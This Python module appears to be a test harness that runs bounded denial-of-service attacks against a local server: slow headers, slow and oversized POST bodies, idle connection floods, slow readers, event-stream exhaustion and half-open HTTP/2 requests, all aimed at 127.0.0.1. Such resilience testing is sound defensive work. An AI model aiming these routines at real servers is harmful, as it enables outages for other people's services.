"""Attacks with connections: half requests, slow ones and many. Each is held while the caller measures other clients.

All connect to 127.0.0.1 only, and are bounded in number and time.
"""

from __future__ import annotations

import resource
import select
import selectors
import socket
import struct
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from threading import Event, Thread
from time import monotonic

LOOPBACK = "127.0.0.1"
MIB = 1024 * 1024
# An attack ends after this time even if the caller forgets it, in seconds.
MAX_SECONDS = 300.0
MAX_CONNECTIONS = 12_000
# How often a slow client sends a byte, in seconds.
EVERY = 5.0
# How long the server may take to accept a connection, and all of them, in seconds.
ACCEPT_PATIENCE, PATIENCE = 2.0, 60.0


def half_open_http2(port: int) -> bytes:
    """Send 170 bytes: an HTTP/2 connection with four requests whose bodies never end, then close it.

    Return what the server sent: nothing if it does not speak HTTP/2.
    """
    # POST /login, http, of the authority x. The type of a form is named once, and repeated by its number (RFC 7541).
    fields, form = b"\x83\x04\x06/login\x86\x01\x01x", b"application/x-www-form-urlencoded"
    sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)
    for stream in (1, 3, 5, 7):
        kind = b"\x5f" + bytes([len(form)]) + form if stream == 1 else b"\xbe"
        sent += _frame(1, 4, stream, fields + kind)  # END_HEADERS without END_STREAM
    sent += _frame(6, 0, 0, b"8 bytes.")  # ping: the server has read all frames when it answers
    said = b""
    with socket.create_connection((LOOPBACK, port), PATIENCE) as line, suppress(ConnectionError):
        line.sendall(sent)
        while not said.endswith(b"8 bytes.") and (part := line.recv(65536)):
            said += part
    return said


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


@dataclass
class Attack:
    """What an attack does, and what it saw so far."""

    port: int
    wanted: int  # connections
    first: bytes = b""  # what each sends at once
    then: bytes = b""  # what each sends again and again
    opens_again: bool = True
    opened: int = 0
    refused: int = 0  # connections that could not be opened
    closed: int = 0  # connections that the server closed
    statuses: list[int] = field(default_factory=list)  # of the responses
    is_up: Event = field(default_factory=Event)
    is_over: Event = field(default_factory=Event)

    def run(self) -> None:
        with selectors.DefaultSelector() as lines:
            end = monotonic() + MAX_SECONDS
            for _ in range(self.wanted):
                if not self.is_over.is_set():
                    self._open(lines)
            self.is_up.set()
            next_byte = monotonic() + EVERY
            while not self.is_over.is_set() and monotonic() < end:
                for key, _ in lines.select(0.05):
                    self._read(lines, key)
                if self.then and monotonic() >= next_byte:
                    next_byte = monotonic() + EVERY
                    for key in lines.get_map().values():
                        with suppress(OSError):
                            key.fileobj.send(self.then)  # type: ignore[union-attr]
            for key in list(lines.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]

    def _open(self, lines: selectors.BaseSelector) -> None:
        try:
            line = socket.create_connection((LOOPBACK, self.port), ACCEPT_PATIENCE)
        except OSError:
            self.refused += 1
            return
        with suppress(OSError):
            line.sendall(self.first)
        line.setblocking(False)
        lines.register(line, selectors.EVENT_READ, "new")
        self.opened += 1

    def _read(self, lines: selectors.BaseSelector, key: selectors.SelectorKey) -> None:
        line: socket.socket = key.fileobj  # type: ignore[assignment]
        try:
            said = line.recv(65536)
        except OSError:
            said = b""
        if not said:
            self.closed += 1
            lines.unregister(line)
            line.close()
            if self.opens_again:
                self._open(lines)
        elif key.data == "new":
            with suppress(IndexError, ValueError):
                self.statuses.append(int(said.split(None, 2)[1]))
            lines.modify(line, selectors.EVENT_READ, "answered")


@contextmanager
def slow_bodies(port: int, count: int, path: str = "/login") -> Iterator[Attack]:
    """Hold requests whose bodies arrive at one byte per 5 seconds."""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    with _held(Attack(port, count, f"{head}Content-Length: 10000\r\n\r\n".encode(), b"a")) as attack:
        yield attack


@contextmanager
def large_bodies(port: int, count: int, path: str = "/login") -> Iterator[Attack]:
    """Hold requests whose bodies stop shortly before their end, at almost 2 MiB."""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    first = f"{head}Content-Length: {2 * MIB}\r\n\r\n".encode() + b"a" * (2 * MIB - 10)
    with _held(Attack(port, count, first, opens_again=False)) as attack:
        yield attack


@contextmanager
def idle_connections(port: int, count: int) -> Iterator[Attack]:
    """Hold connections that send nothing. Those that the server closes are opened again."""
    with _held(Attack(port, count)) as attack:
        yield attack


@contextmanager
def slow_headers(port: int, count: int) -> Iterator[Attack]:
    """Hold requests whose headers never end: one more byte every 5 seconds."""
    with _held(Attack(port, count, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a")) as attack:
        yield attack


@contextmanager
def event_streams(port: int, key: str, count: int) -> Iterator[Attack]:
    """Hold event streams of one key."""
    head = f"GET /api/v1/events/stream HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n\r\n"
    with _held(Attack(port, count, head.encode(), opens_again=False)) as attack:
        yield attack


@contextmanager
def _held(attack: Attack) -> Iterator[Attack]:
    """Run an attack in a thread until the block ends. Yields when each connection was tried once."""
    attack.wanted = min(attack.wanted, MAX_CONNECTIONS)
    _allow_open_files(attack.wanted + 200)
    thread = Thread(target=attack.run, daemon=True)
    thread.start()
    try:
        attack.is_up.wait(PATIENCE)
        yield attack
    finally:
        attack.is_over.set()
        thread.join(PATIENCE)


class SlowReaders:
    """Clients that ask for something and do not read it. When the server closes a connection, they ask again."""

    def __init__(self, port: int, path: str, networks: int, header: str = "Accept: */*") -> None:
        self.port, self.networks = port, networks
        self.request = f"GET {path} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n{header}\r\n\r\n".encode()
        self.lines: dict[int, socket.socket] = {}
        self.opened = self.closed = 0
        self.is_over = Event()
        self.closings = select.epoll()

    def open(self) -> None:
        line = socket.socket()
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        line.settimeout(ACCEPT_PATIENCE)
        number = self.opened % self.networks
        self.opened += 1
        try:
            line.bind((f"127.0.{1 + number // 250}.{1 + number % 250}", 0))
            line.connect((LOOPBACK, self.port))
            line.sendall(self.request)
        except OSError:
            line.close()
            return
        self.lines[line.fileno()] = line
        self.closings.register(line, 0)  # reports only errors and ends

    def run(self) -> None:
        end = monotonic() + MAX_SECONDS
        while not self.is_over.is_set() and monotonic() < end:
            for number, _ in self.closings.poll(0.05):
                self.closings.unregister(number)
                self.lines.pop(number).close()
                self.closed += 1
                self.open()


@contextmanager
def slow_readers(
    port: int, count: int, path: str, networks: int = 1, header: str = "Accept: */*"
) -> Iterator[SlowReaders]:
    """Hold clients that do not read, of so many networks. Yields when each has asked once."""
    _allow_open_files(count + 200)
    readers = SlowReaders(port, path, networks, header)
    for _ in range(count):
        readers.open()
    thread = Thread(target=readers.run, daemon=True)
    thread.start()
    try:
        yield readers
    finally:
        readers.is_over.set()
        thread.join(PATIENCE)
        for line in readers.lines.values():
            line.close()
        readers.closings.close()


def _allow_open_files(count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count if hard == resource.RLIM_INFINITY else min(count, hard)
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
